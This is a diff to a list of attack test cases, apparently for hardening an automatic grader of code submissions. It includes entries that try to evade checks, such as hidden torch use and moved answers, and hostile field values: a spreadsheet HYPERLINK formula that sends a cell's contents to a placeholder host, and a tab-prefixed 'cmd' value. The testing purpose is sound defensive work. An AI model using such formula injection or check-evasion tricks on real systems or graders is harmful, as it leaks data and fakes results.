@@ -86,7 +86,7 @@ ATTACKS = [
         {"id": f"c1-{name}", "class": 1, "base": "half", "bodies": {"mean_square": body}}
         for name, body in TORCH_WITHOUT_THE_WORD.items()
     ],
-    {"id": "c1-moved-answer", "class": 1, "base": "blank",
+    {"id": "c1-moved-answer", "class": 1, "base": "half",
      "cells": {"mean_square": "pass\n", "double": MOVED_ANSWER_DOUBLE_CELL}},
     {"id": "c1-deep-expression", "class": 1, "base": "half",
      "bodies": {"mean_square": DEEP_TORCH_BODY}},
@@ -94,7 +94,7 @@ ATTACKS = [
     {"id": "c3-hostile-message", "class": 3, "base": "blank",
      "bodies": {"mean_square": HOSTILE_MESSAGE_BODY}},
     {"id": "c3-formula", "class": 3, "base": "blank",
-     "folder": '=HYPERLINK("http://example.invalid/?"&A1,"click")'},
+     "folder": '=HYPERLINK("https:example.invalid?"&A1,"click")'},
     {"id": "c3-not-utf8", "class": 3, "base": "blank", "folder": b"caf\xe9"},
     {"id": "c3-tab", "class": 3, "base": "blank", "folder": "\tcmd"},
     {"id": "c3-seed-in-feedback", "class": 3, "base": "half", "bodies": {"mean_square": "HARD_CODED"}},
